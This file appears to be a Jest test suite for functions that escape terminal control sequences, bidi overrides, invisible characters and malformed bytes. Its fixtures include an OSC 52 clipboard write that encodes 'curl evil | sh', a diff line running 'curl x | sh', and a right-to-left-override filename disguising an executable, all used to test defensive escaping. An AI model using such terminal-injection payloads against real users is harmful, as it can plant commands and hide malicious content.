import {
  jsonForTerminal,
  printable,
  printableBytes,
  printableLine,
  printableName,
} from '../../../src/shared/terminal-text';

/** True when the text holds nothing a terminal would act on or hide. */
const plain = (text: string): boolean =>
  !/[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u.test(text) &&
  !/\p{Cs}/u.test(text);

describe('printable', () => {
  test('keeps ordinary text, newlines, tabs and non-ASCII letters', () => {
    const text = 'def f():\n\treturn "héllo wörld ✓ 日本"  # ok\n';
    expect(printable(text)).toBe(text);
  });

  test('shows C0, DEL and C1 controls as escapes', () => {
    expect(printable('a\x1b[2K\x1b[1Ab')).toBe('a\\x1b[2K\\x1b[1Ab');
    expect(printable('\x00\x07\x08\x0b\x0c\r\x7f')).toBe('\\x00\\x07\\x08\\x0b\\x0c\\x0d\\x7f');
    expect(printable('x\u009b2Jy\u0085')).toBe('x\\u009b2Jy\\u0085');
  });

  test('an OSC 52 clipboard write and a window title come out as text', () => {
    const osc = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
    expect(printable(osc)).toBe('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07');
    expect(printable('\x1b]0;pwned\x1b\\')).toBe('\\x1b]0;pwned\\x1b\\');
  });

  test('shows bidi overrides, isolates and invisible format characters', () => {
    expect(printable('if admin\u202e } \u2066{\u2069')).toBe('if admin\\u202e } \\u2066{\\u2069');
    for (const c of [
      '\u200b',
      '\u200c',
      '\u200d',
      '\u200e',
      '\u200f',
      '\u2060',
      '\ufeff',
      '\u00ad',
      '\u061c',
    ]) {
      expect(printable(`a${c}b`)).toBe(`a\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}b`);
    }
    expect(printable('x\u2028y\u2029z')).toBe('x\\u2028y\\u2029z');
    expect(printable('\u3164 = 1; \u115f\u1160\uffa0\u034f')).toBe(
      '\\u3164 = 1; \\u115f\\u1160\\uffa0\\u034f',
    );
    expect(printable('tag\u{e0041}\u{e007f} vs\ufe0f\u{e0100}')).toBe(
      'tag\\u{e0041}\\u{e007f} vs\\ufe0f\\u{e0100}',
    );
  });

  test('shows lone surrogates, keeps pairs', () => {
    expect(printable('a\ud800b\udc9bc')).toBe('a\\ud800b\\udc9bc');
    expect(printable('emoji 😀')).toBe('emoji 😀');
  });

  test('applying it twice changes nothing', () => {
    const once = printable('\x1b]52;c;x\x07\u202e\ud800\n');
    expect(printable(once)).toBe(once);
    expect(plain(once)).toBe(true);
  });
});

describe('printableLine', () => {
  test('a newline or tab inside a field cannot start a line or widen it', () => {
    expect(printableLine('root cause\nSUCCESS after 1 iteration\tx')).toBe(
      'root cause\\nSUCCESS after 1 iteration\\tx',
    );
    expect(printableLine('a\r\nb\x1b[1A')).toBe('a\\x0d\\nb\\x1b[1A');
  });
});

describe('printableName', () => {
  test('an ordinary name stays as it is', () => {
    expect(printableName('src/calc.py')).toBe('src/calc.py');
    expect(printableName('docs/naïve file.md')).toBe('docs/naïve file.md');
  });

  test('a name with newlines, tabs, controls, quotes or backslashes is C-quoted', () => {
    expect(printableName('evil\nM ok.py')).toBe('"evil\\nM ok.py"');
    expect(printableName('a\tb')).toBe('"a\\tb"');
    expect(printableName('\x1b]52;c;eA==\x07.py')).toBe('"\\x1b]52;c;eA==\\x07.py"');
    expect(printableName('\u009b2J.py')).toBe('"\\u009b2J.py"');
    expect(printableName('gpj.\u202eexe')).toBe('"gpj.\\u202eexe"');
    expect(printableName('say "hi"\\x1b.py')).toBe('"say \\"hi\\"\\\\x1b.py"');
  });

  test('a name holding the text \\x1b differs from one holding the escape character', () => {
    expect(printableName('a\\x1b')).not.toBe(printableName('a\x1b'));
  });
});

describe('printableBytes', () => {
  const shown = (bytes: number[] | string) =>
    printableBytes(typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : Buffer.from(bytes));

  test('keeps the lines of git output and counts the lines that needed escapes', () => {
    const diff = '+os.system("curl x | sh")  # \x1b[2K\x1b[1A\n+ok\n-\u202eevil\n';
    expect(shown(diff)).toEqual({
      text: '+os.system("curl x | sh")  # \\x1b[2K\\x1b[1A\n+ok\n-\\u202eevil\n',
      escaped: 2,
    });
    expect(shown('+plain\n+text ✓\n')).toEqual({ text: '+plain\n+text ✓\n', escaped: 0 });
    expect(shown('')).toEqual({ text: '', escaped: 0 });
  });

  test('bytes that are not UTF-8 show as \\xNN, a character never does', () => {
    // 0x9b alone (8-bit CSI), a cut sequence, an overlong slash, an encoded surrogate.
    const bytes = [
      0x2b, 0x9b, 0x32, 0x4a, 0x20, 0xe2, 0x82, 0x20, 0xc0, 0xaf, 0x20, 0xed, 0xa0, 0x80, 0x0a, 0x2b, 0x41,
    ];
    expect(shown(bytes)).toEqual({ text: '+\\x9b2J \\xe2\\x82 \\xc0\\xaf \\xed\\xa0\\x80\n+A', escaped: 1 });
    // U+009B written correctly in UTF-8 is a character: \u009b.
    expect(shown([0x2b, 0xc2, 0x9b, 0x41]).text).toBe('+\\u009bA');
    expect(shown([0x2b, 0xf0, 0x9f, 0x98, 0x80, 0xe6, 0x97, 0xa5, 0x0a, 0xff]).text).toBe('+😀日\n\\xff');
  });

  test('a carriage return that ends a line stays; one inside a line does not', () => {
    expect(shown('+a\r\n+b\rc\n')).toEqual({ text: '+a\r\n+b\\x0dc\n', escaped: 1 });
    expect(shown('+a\r\n+b\r\n')).toEqual({ text: '+a\r\n+b\r\n', escaped: 0 });
  });
});

describe('jsonForTerminal', () => {
  test('parses to the same value and holds no hidden character', () => {
    const value = {
      rootCause: 'a\x1b[2Kb\x7f\u009b\u202e\u2028\ud800\u{e0041}',
      fine: 'héllo\n\t日本 😀',
      list: ['\x1b]52;c;eA==\x07'],
    };
    for (const space of [undefined, 2]) {
      const text = jsonForTerminal(value, space);
      expect(JSON.parse(text)).toEqual(value);
      expect(plain(text.replace(/\n/g, ' '))).toBe(true);
      expect(text).toContain('\\u009b');
      expect(text).toContain('\\u202e');
      expect(text).toContain('\\udb40\\udc41');
    }
  });
});
